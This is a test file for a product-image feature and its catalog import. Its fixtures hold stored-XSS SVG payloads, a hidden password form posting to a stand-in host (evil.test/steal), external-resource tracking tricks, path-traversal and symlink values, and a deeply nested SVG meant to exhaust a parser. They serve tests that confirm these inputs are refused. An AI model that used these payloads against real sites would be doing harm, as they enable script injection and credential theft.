/**
 * Product pictures, as a user and an operator see them: every card shows its product's
 * picture (alt text, slot size, lazy), served from the embed origin with a year's caching
 * and a CSP that keeps an SVG from running anything; the catalog import checks each
 * picture by its content and size, and applies nothing of a file with any invalid row.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isProductImageKey, productImageKey, type ProductImageKey } from '../../functions/domain/catalog/product-image';
import { SEED_CATALOG } from '../../functions/domain/catalog/seed-catalog';
import type { PartnerId } from '../../functions/domain/partners/partner';
import { runOpsCapturing } from '../support/ops-run';
import { moduleBrowser, type ModuleBrowser, unescapeHtml } from '../support/module-browser';
import { provisionProfile } from '../support/provisioned-profile';
import { startTestStack, type TestStack } from '../support/test-stack';

let stack: TestStack;
let partner: { partnerId: PartnerId; apiKey: string };
let browser: ModuleBrowser;
let dir: string;
beforeAll(async () => {
  stack = await startTestStack({ queuePollers: false });
  partner = await stack.createPartner();
  browser = moduleBrowser(stack, partner);
  dir = mkdtempSync(join(tmpdir(), 'catalog-images-'));
});
afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await stack.close();
});

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005000201a5f6c54b0000000049454e44ae426082',
  'hex',
);
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('JFIF picture bytes')]);
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x10, 0, 0, 0]), Buffer.from('WEBPVP8 picture')]);
const SVG =
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4"/></svg>';

const file = (name: string, content: string | Buffer) => {
  writeFileSync(join(dir, name), content);
  return join(dir, name);
};

const ops = (argv: string[]) => runOpsCapturing(argv, { deps: stack.deps, separateErrors: true });

const aRow = (productId: string, image: string, overrides: Record<string, unknown> = {}) => ({
  product_id: productId,
  name: `Product ${productId}`,
  description: 'For picture tests.',
  category: 'Picture Tests',
  price: 5,
  unit: 'each',
  active: true,
  image,
  ...overrides,
});

/** Every `<img>` of a page, with its attributes. */
const imagesOf = (html: string) =>
  [...html.matchAll(/<img ([^>]*)\/?>/g)].map(([, attributes]) =>
    Object.fromEntries(
      [...(attributes as string).matchAll(/([a-z-]+)="([^"]*)"/g)].map(([, name, value]) => [
        name,
        unescapeHtml(value as string),
      ]),
    ),
  );

describe('product pictures in the catalog', () => {
  it('shows every product with its picture: the name as alt text, the slot size, loaded lazily', async () => {
    const cookie = await browser.signIn(await provisionProfile(stack.deps, partner.partnerId));
    const page = await browser.request(browser.base, { cookie });
    expect(page.status).toBe(200);
    expect(page.headers.get('content-security-policy')).toMatch(/(^|; )img-src 'self'(;|$)/);
    const images = imagesOf(page.text);
    expect(images).toHaveLength(24);
    for (const image of images) {
      expect(image).toMatchObject({ width: '160', height: '160', loading: 'lazy' });
      expect(image.src).toMatch(/^\/embedded\/assets\/products\/[0-9a-f]{64}\.svg$/);
      expect(SEED_CATALOG.map((product) => product.name)).toContain(image.alt);
    }
  });

  it('serves a picture from the embed origin, its bytes as stored, cacheable for a year, unable to run script', async () => {
    const product = (await stack.deps.catalog.listActive({ search: 'GLV-NIT-M-100' }))[0]!;
    const res = await fetch(`${stack.url}/embedded/assets/products/${product.image}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/svg+xml');
    expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(res.headers.get('content-security-policy')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; sandbox",
    );
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await res.arrayBuffer())).toEqual(
      readFileSync(new URL('../../lib/local-runtime/seed-images/GLV-NIT-M-100.svg', import.meta.url)),
    );
  });

  it('answers 404 for a key it does not hold or that is no key, never a 500', async () => {
    for (const key of [`${'a'.repeat(64)}.png`, 'nope.svg', '..%2F..%2Fsecret', `${'A'.repeat(64)}.svg`]) {
      const res = await fetch(`${stack.url}/embedded/assets/products/${key}`);
      expect(res.status, key).toBe(404);
      expect(res.headers.get('cache-control')).toBe('no-store');
    }
  });

  it('gives partners each product’s picture as an absolute URL on the embed host', async () => {
    const key = (await stack.createPartner({ scopes: ['orders:read'] })).apiKey;
    const res = await stack.get('/v1/catalog/products', { Authorization: `Bearer ${key}` });
    const gloves = res.body.data.find((product: { product_id: string }) => product.product_id === 'GLV-NIT-M-100');
    expect(gloves.image_url).toMatch(new RegExp(`^${stack.url}/embedded/assets/products/[0-9a-f]{64}[.]svg$`));
    expect((await fetch(gloves.image_url)).status).toBe(200);
  });
});

describe('catalog import with pictures', () => {
  it('uploads PNG, JPEG, WebP and SVG pictures named relative to the file, and adds a new category and a lower-case SKU', async () => {
    file('gloves.png', PNG);
    file('mask.jpg', JPEG);
    file('wipes.webp', WEBP);
    file('tray.svg', SVG);
    const catalog = file(
      'pictures.json',
      JSON.stringify([
        aRow('pic-png', 'gloves.png'),
        aRow('PIC-JPEG', 'mask.jpg'),
        aRow('Pic.WebP_1', 'wipes.webp', { category: 'Sterilization' }),
        aRow('pic-svg', './tray.svg'),
      ]),
    );
    const run = await ops(['catalog', 'import', '--file', catalog]);
    expect(run.err).toEqual([]);
    expect(run.code).toBe(0);

    const stored = new Map(
      (await stack.deps.catalog.listActive({ category: 'Picture Tests' })).map((p) => [p.productId as string, p.image]),
    );
    expect([...stored.keys()].sort()).toEqual(['PIC-JPEG', 'pic-png', 'pic-svg']);
    expect(stored.get('pic-png')).toMatch(/^[0-9a-f]{64}\.png$/);
    expect(stored.get('PIC-JPEG')).toMatch(/\.jpg$/);
    expect(stored.get('pic-svg')).toMatch(/\.svg$/);
    const png = await fetch(`${stack.url}/embedded/assets/products/${stored.get('pic-png')}`);
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await png.arrayBuffer())).toEqual(PNG);

    const cookie = await browser.signIn(await provisionProfile(stack.deps, partner.partnerId));
    const home = await browser.request(browser.base, { cookie });
    expect(home.text).toContain(`<a href="${browser.base}?category=Sterilization">Sterilization</a>`);
    const sterilization = await browser.request(`${browser.base}?category=Sterilization`, { cookie });
    expect(imagesOf(sterilization.text)).toEqual([
      expect.objectContaining({ alt: 'Product Pic.WebP_1', src: expect.stringMatching(/\.webp$/) }),
    ]);
    const lower = await browser.request(`${browser.base}/products/pic-png`, { cookie });
    expect(lower.status).toBe(200);
    expect((await browser.request(`${browser.base}/products/PIC-PNG`, { cookie })).status).toBe(404);
  });

  it('checks pictures by content and size, reports every problem by row and field, and applies nothing of the file', async () => {
    const before = await stack.deps.catalog.listAll();
    file('fresh.svg', SVG.replace('width="4"', 'width="3"'));
    file('not-a.png', 'just text, named like a picture');
    file('huge.png', Buffer.concat([PNG, Buffer.alloc(600 * 1024)]));
    file('script.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    file('handler.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');
    const catalog = file(
      'bad.json',
      JSON.stringify([
        aRow('OK-1', 'fresh.svg'),
        aRow('BAD-TYPE', 'not-a.png'),
        aRow('BAD-SIZE', 'huge.png'),
        aRow('BAD-SCRIPT', 'script.svg'),
        aRow('BAD-HANDLER', 'handler.svg'),
        aRow('BAD-MISSING', 'absent.png'),
        aRow('BAD-CATEGORY', 'fresh.svg', { category: 'C'.repeat(65) }),
        aRow('BAD-NO-IMAGE', 'x', { image: undefined }),
      ]),
    );
    const run = await ops(['catalog', 'import', '--file', catalog]);
    expect(run.code).toBe(1);
    const [error] = run.err;
    expect(error).toMatch(/bad\.json has 7 problems; nothing was imported/);
    for (const fragment of [
      '[1].image not-a.png is not a PNG, JPEG, WebP or SVG image',
      '[2].image huge.png is 601 KiB; at most 512 KiB',
      '[3].image script.svg is an SVG that does more than draw: it has a <script> element',
      '[4].image handler.svg is an SVG that does more than draw: it has an event attribute (onload) on <svg>',
      '[5].image cannot read absent.png',
      '[6].category',
      '[7].image',
    ]) {
      expect(error).toContain(fragment);
    }
    expect(await stack.deps.catalog.listAll()).toEqual(before);
    // The valid row's picture was not stored either.
    const freshKey: ProductImageKey = productImageKey(Buffer.from(SVG.replace('width="4"', 'width="3"')), 'svg');
    expect(isProductImageKey(freshKey)).toBe(true);
    expect(await stack.deps.productImages.get(freshKey)).toBeUndefined();
  });
});

const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
const svgWith = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${XHTML} ${attributes}>${inner}</svg>`;

/** What a red team imported and had served on the embed origin, and its near relatives. */
const HOSTILE_SVGS: Readonly<Record<string, string>> = {
  'an XHTML-namespaced script': svgWith('<h:script>alert(document.domain)</h:script>'),
  'an XHTML iframe': svgWith('<h:iframe src="https://evil.test/"/>'),
  'an XHTML embed': svgWith('<h:embed src="https://evil.test/x.swf"/>'),
  'an XHTML object': svgWith('<h:object data="https://evil.test/x.html"/>'),
  'a prefixed foreignObject holding a password form': svgWith(
    '<s:foreignObject width="200" height="80"><h:form action="https://evil.test/steal"><h:input type="password" name="p"/><h:button>Sign in</h:button></h:form></s:foreignObject>',
    'xmlns:s="http://www.w3.org/2000/svg"',
  ),
  'a meta refresh': svgWith('<h:meta http-equiv="refresh" content="0;url=https://evil.test/"/>'),
  'a &#106;avascript: link': svgWith('<a href="&#106;avascript:alert(1)"><rect width="4" height="4"/></a>'),
  'a &#106;avascript: use': svgWith('<use xlink:href="&#106;ava&#x09;script:alert(1)"/>'),
  'a DOCTYPE naming an external file': `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "https://evil.test/svg.dtd">${svgWith('<rect width="4" height="4"/>')}`,
  'an entity': `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svgWith('<text>&x;</text>')}`,
  'an event attribute in any case': svgWith('<rect width="4" height="4" oNcLiCk="alert(1)"/>'),
  'a prefixed SVG script': svgWith('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  'an external use': svgWith('<use href="https://evil.test/sprite.svg#icon"/>'),
  'an external fill': svgWith('<rect width="4" height="4" fill="url(https://evil.test/track)"/>'),
  'a CSS-escaped url() in a style': svgWith('<rect width="4" height="4" style="fill:\\75 rl(https://evil.test/t)"/>'),
  'a CSS-escaped url() in clip-path': svgWith('<rect width="4" height="4" clip-path="\\75 rl(https://evil.test/c)"/>'),
  'an external image': svgWith('<image href="https://evil.test/x.png" width="4" height="4"/>'),
  'a style sheet instruction': `<?xml-stylesheet href="https://evil.test/x.css"?>${svgWith('<rect width="4" height="4"/>')}`,
  'a style element': svgWith('<style>@import url(https://evil.test/x.css);</style>'),
  'an animation that sets a link': svgWith('<set attributeName="href" to="javascript:alert(1)"/>'),
  'not well-formed XML': svgWith('<rect width="4" height="4">'),
};

describe('SVG pictures that do more than draw', () => {
  it('are refused at import, each with its reason, and nothing of the file is applied', async () => {
    const before = await stack.deps.catalog.listAll();
    const rows = Object.entries(HOSTILE_SVGS).map(([label, svg], index) => {
      file(`hostile-${index}.svg`, svg);
      return aRow(`HOSTILE-${index}`, `hostile-${index}.svg`, { name: label });
    });
    const run = await ops(['catalog', 'import', '--file', file('hostile.json', JSON.stringify(rows))]);
    expect(run.code).toBe(1);
    expect(run.err[0]).toContain(`has ${rows.length} problems; nothing was imported`);
    rows.forEach((_, index) =>
      expect(run.err[0], Object.keys(HOSTILE_SVGS)[index]).toMatch(
        new RegExp(`\\[${index}\\]\\.image hostile-${index}\\.svg is (an SVG that does more than draw|not a PNG)`),
      ),
    );
    expect(await stack.deps.catalog.listAll()).toEqual(before);
  });

  it('are not served when they reach the bucket another way, and every picture is served sandboxed', async () => {
    for (const [label, svg] of Object.entries(HOSTILE_SVGS)) {
      const key = productImageKey(Buffer.from(svg), 'svg');
      await stack.deps.productImages.put(key, Buffer.from(svg));
      const res = await fetch(`${stack.url}/embedded/assets/products/${key}`);
      expect(res.status, label).toBe(404);
    }
    const key = productImageKey(Buffer.from(SVG), 'svg');
    await stack.deps.productImages.put(key, Buffer.from(SVG));
    const served = await fetch(`${stack.url}/embedded/assets/products/${key}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-security-policy')?.split('; ')).toEqual(
      expect.arrayContaining(["default-src 'none'", "form-action 'none'", 'sandbox']),
    );
  });

  it('still takes a drawing with gradients, local references, text and comments', async () => {
    const drawing = `<?xml version="1.0" encoding="UTF-8"?>\n<!-- a tray -->\n${svgWith(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect width="4" height="4" fill="url(#g)" style="stroke:#000"/><use xlink:href="#g"/><text x="1" y="2" font-size="2">Tray &amp; lid</text>',
    )}`;
    const run = await ops([
      'catalog',
      'import',
      '--file',
      file('drawing.json', JSON.stringify([aRow('DRAWING-1', file('drawing.svg', drawing).replace(`${dir}/`, ''))])),
    ]);
    expect(run.err).toEqual([]);
  });
});

describe('an SVG picture nested 20,000 levels deep', () => {
  const deep = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(20_000)}${'</g>'.repeat(20_000)}</svg>`;

  it('is refused by the import with its row and field, and nothing is applied', async () => {
    const before = await stack.deps.catalog.listAll();
    file('deep.svg', deep);
    const run = await ops([
      'catalog',
      'import',
      '--file',
      file(
        'deep.json',
        JSON.stringify([(file('deep-ok.svg', SVG), aRow('DEEP-OK', 'deep-ok.svg')), aRow('DEEP-1', 'deep.svg')]),
      ),
    ]);
    expect(run.code).toBe(1);
    expect(run.err[0]).toContain('has 1 problem');
    expect(run.err[0]).toContain(
      '[1].image deep.svg is an SVG too deep to accept: it nests elements more than 256 deep',
    );
    expect(await stack.deps.catalog.listAll()).toEqual(before);
  });

  it('is not served when it reaches the bucket another way: 404, never a 500', async () => {
    const key = productImageKey(Buffer.from(deep), 'svg');
    await stack.deps.productImages.put(key, Buffer.from(deep));
    const res = await fetch(`${stack.url}/embedded/assets/products/${key}`);
    expect(res.status).toBe(404);
  });
});

describe("the import reads pictures only inside the catalog file's folder", () => {
  it('refuses an absolute path, a path that climbs out, and a link that points out; a subfolder is fine', async () => {
    const inner = join(dir, 'catalog');
    mkdirSync(join(inner, 'pictures'), { recursive: true });
    writeFileSync(join(inner, 'pictures', 'ok.png'), PNG);
    const secret = file('secret.png', PNG);
    symlinkSync(secret, join(inner, 'linked.png'));
    const catalog = join(inner, 'catalog.json');
    writeFileSync(
      catalog,
      JSON.stringify([
        aRow('IN-1', 'pictures/ok.png'),
        aRow('OUT-1', secret),
        aRow('OUT-2', '../secret.png'),
        aRow('OUT-3', 'pictures/../../secret.png'),
        aRow('OUT-4', 'linked.png'),
      ]),
    );
    const run = await ops(['catalog', 'import', '--file', catalog]);
    expect(run.code).toBe(1);
    expect(run.err[0]).toContain('has 4 problems');
    for (const [row, path] of [
      [1, secret],
      [2, '../secret.png'],
      [3, 'pictures/../../secret.png'],
      [4, 'linked.png'],
    ])
      expect(run.err[0]).toContain(`[${row}].image cannot read ${path}: it is outside the catalog file's folder`);
    expect(run.err[0]).not.toContain('[0].image');
  });
});
